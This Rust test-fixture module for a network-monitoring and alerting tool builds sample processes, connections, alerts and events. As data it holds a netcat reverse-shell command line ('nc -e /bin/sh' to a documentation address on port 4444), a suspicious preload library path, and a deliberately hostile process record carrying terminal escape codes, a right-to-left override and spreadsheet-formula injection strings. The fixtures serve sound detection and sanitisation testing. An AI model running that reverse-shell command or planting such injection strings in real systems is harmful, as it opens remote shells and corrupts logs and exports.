//! One of each record, with a hostile name among them.

use std::sync::Arc;

use atalaya_model::alert::Technique;
use atalaya_model::connection::Traffic;
use atalaya_model::process::{Ancestor, Container, Digest, Flags, Package};
use atalaya_model::tier::Limit;
use atalaya_model::*;

pub(crate) const START: Time = Time(1_795_210_023_123_456); // 2026-11-20T21:27:03.123456Z

pub(crate) fn process() -> Process {
    let key = ProcessKey {
        pid: 1234,
        start: 98_765,
    };
    let mut process = Process::bare(key, "nc".into(), START);
    process.executable = Some("/usr/bin/nc".into());
    process.command_line = Some("nc -e /bin/sh 203.0.113.7 4444".into());
    process.command_line_hash = Some("5f2c".into());
    process.working_directory = Some("/tmp".into());
    process.user_id = Some(1000);
    process.user_name = Some("ana".into());
    process.parent = Some(ProcessKey { pid: 900, start: 5 });
    process.ancestors = Arc::from([
        Ancestor {
            key: ProcessKey { pid: 900, start: 5 },
            name: "bash".into(),
            executable: Some("/usr/bin/bash".into()),
        },
        Ancestor {
            key: ProcessKey { pid: 1, start: 1 },
            name: "systemd".into(),
            executable: None,
        },
    ]);
    process.cgroup = Some("/user.slice/session-3.scope".into());
    process.container = Some(Container {
        runtime: "docker".into(),
        id: "4c01db0b339c".into(),
    });
    process.unit = Some("session-3.scope".into());
    process.flags = Flags {
        deleted: true,
        ..Flags::default()
    };
    process.sha256 = Some("e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855".into());
    process.package = Some(Package {
        manager: "dpkg".into(),
        name: "netcat-openbsd".into(),
        version: Some("1.219-1".into()),
        digest: Digest::Agrees,
    });
    process
}

/// Everything a program can put into its own name and arguments.
pub(crate) fn hostile() -> Process {
    let mut process = process();
    process.name = "=x\u{1b}[2J\n\"',;".into();
    process.preload = Some("/tmp/\u{1b}[1m\n.so".into());
    process.executable = Some("/tmp/\u{202e}gpj.\u{1b}]0;owned\u{7}\r\nroot".into());
    process.command_line = Some("@SUM(A1)\n{\"event\":\"forged\"}\u{0}\u{9b}31m\\".into());
    process
}

pub(crate) fn connection(process: Process) -> Connection {
    Connection {
        id: 7,
        seen: START.after(Span::from_seconds(90)),
        direction: Direction::Outbound,
        scope: Scope::External,
        network_namespace: 4_026_531_840,
        cookie: 77,
        user_id: Some(1000),
        cgroup_id: Some(9),
        traffic: Some(Traffic {
            sent_bytes: 1_234_567,
            received_bytes: 890,
            sent_packets: 1_000,
            received_packets: 12,
            round_trip: 20_500,
            retransmits: 1,
        }),
        name: Some("example.org".into()),
        name_source: Some(NameSource::Resolver),
        process: Some(Arc::new(process)),
        attribution: Evidence::Descriptor.into(),
        ..Connection::bare(
            START,
            Transport::Tcp,
            Endpoint::new("192.168.1.50".parse().unwrap(), 45_123),
            Endpoint::new("203.0.113.7".parse().unwrap(), 4_444),
        )
    }
}

/// A conversation of which it is known where its ends are.
pub(crate) fn placed() -> Connection {
    let place = |country: &str, asn, organization: &str| {
        Some(Arc::new(Place {
            country: Some(country.into()),
            asn: Some(asn),
            organization: Some(organization.into()),
        }))
    };
    let mut connection = connection(process());
    connection.places = Places {
        source: place("ES", 64_496, "Example S.A."),
        destination: place("RU", 64_497, "=cmd()\u{1b}[31m"),
    };
    connection
}

/// An attempt that the peer refused.
pub(crate) fn refused(process: Process) -> Connection {
    let mut attempt = connection(process);
    attempt.ended = Some(attempt.seen);
    attempt.state = SocketState::SynSent;
    attempt.outcome = Outcome::Refused;
    attempt.traffic = None;
    attempt
}

/// A process of a script that was told what to do over the network, and ended badly.
pub(crate) fn ended() -> Process {
    let mut process = process();
    process.ended = Some(START.after(Span::from_seconds(60)));
    process.exit_code = Some(137);
    process.script = Some("/tmp/run.sh".into());
    process.script_sha256 = Some("9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08".into());
    process.preload = Some("/tmp/evil.so".into());
    process.flags.preload = true;
    process.flags.script = true;
    process.flags.standard_socket = true;
    process
}

pub(crate) fn listener() -> Listener {
    Listener {
        id: 8,
        started: START,
        started_before: true,
        ended: None,
        transport: Transport::Tcp,
        local: Endpoint::new("::".parse().unwrap(), 31_337),
        network_namespace: 4_026_531_840,
        cookie: 0,
        user_id: Some(0),
        service: None,
        process: None,
        attribution: Evidence::NoPermission.into(),
        shared_with: Box::default(),
    }
}

pub(crate) fn gap() -> Gap {
    Gap {
        time: START,
        stage: Stage::SocketTable,
        count: 3,
        reason: "no permission to enter".into(),
    }
}

pub(crate) fn finding(rule: &str, values: Vec<(Text, Value)>) -> Finding {
    let process = process();
    Finding {
        rule: rule.into(),
        time: START,
        severity: Severity::High,
        key: "/usr/bin/nc → 4444".into(),
        values,
        connections: vec![Arc::new(connection(process.clone()))],
        process: Some(Arc::new(process)),
        listener: None,
    }
}

pub(crate) fn alert() -> Alert {
    let values: Vec<(Text, Value)> = vec![
        ("port".into(), 4_444.into()),
        ("destination".into(), "203.0.113.7:4444".into()),
        ("state".into(), "ESTABLISHED".into()),
        ("meaning".into(), "the default of Metasploit's handlers.".into()),
        ("window".into(), Span::from_seconds(60).into()),
        ("sent".into(), Value::Bytes(1_234_567)),
    ];
    Alert {
        id: 1_882_410_000_000_000_001,
        finding: finding("suspicious_port", values),
        techniques: vec![Technique {
            id: "T1571".into(),
            name: "Non-Standard Port".into(),
            tactic: "Command and Control".into(),
        }],
        recurrence: 0,
    }
}

pub(crate) fn alert_rows() -> Vec<AlertRecord> {
    let alert = alert();
    let (id, time) = (alert.id, START.after(Span::from_seconds(60)));
    vec![
        AlertRecord::Raised(Box::new(alert)),
        AlertRecord::Repeated {
            alert: id,
            time,
            count: 5,
        },
        AlertRecord::Acknowledged {
            alert: id,
            time,
            by: "ana".into(),
            note: None,
        },
        AlertRecord::Closed {
            alert: id,
            time,
            by: "ana".into(),
            verdict: Verdict::FalsePositive,
            note: Some("our own\ntest".into()),
        },
    ]
}

pub(crate) fn tier() -> TierReport {
    TierReport {
        tier: Tier::Poll,
        unavailable: vec![(Tier::Ebpf, "not built in".into())],
        limits: vec![Limit {
            what: "processes of other users are not named".into(),
            remedy: "run as root".into(),
        }],
    }
}

pub(crate) fn events() -> Vec<Event> {
    let connection = Arc::new(connection(process()));
    let refused = Arc::new(refused(process()));
    let process = Arc::new(process());
    let listener = Arc::new(listener());
    [
        Fact::ConnectionOpened(connection.clone()),
        Fact::ConnectionClosed(connection),
        Fact::ConnectionOpened(refused.clone()),
        Fact::ConnectionClosed(refused),
        Fact::ProcessStarted(process),
        Fact::ProcessEnded(Arc::new(ended())),
        Fact::ListenerAppeared(listener),
        Fact::Gap(gap()),
        Fact::TierChanged(Arc::new(tier())),
        Fact::Tick { look: true },
    ]
    .map(|fact| Event::new(START, fact))
    .into()
}
